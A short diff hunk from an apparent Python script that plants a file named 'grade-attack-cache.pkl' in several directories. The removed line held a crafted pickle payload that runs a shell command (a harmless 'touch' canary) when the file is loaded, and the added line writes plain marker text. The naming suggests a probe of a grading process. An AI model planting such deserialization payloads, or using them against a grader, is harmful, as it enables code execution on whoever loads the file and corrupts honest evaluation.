@@ -15,7 +15,7 @@ for place in (
     try:
         os.makedirs(place, exist_ok=True)
         with open(os.path.join(place, "grade-attack-cache.pkl"), "wb") as file:
-            file.write(b"cos\nsystem\n(S'touch /tmp/grade-attack-ran'\ntR.")
+            file.write(b"grade-attack: what is here is loaded")
         print("PLANTED", place)
     except OSError:
         pass
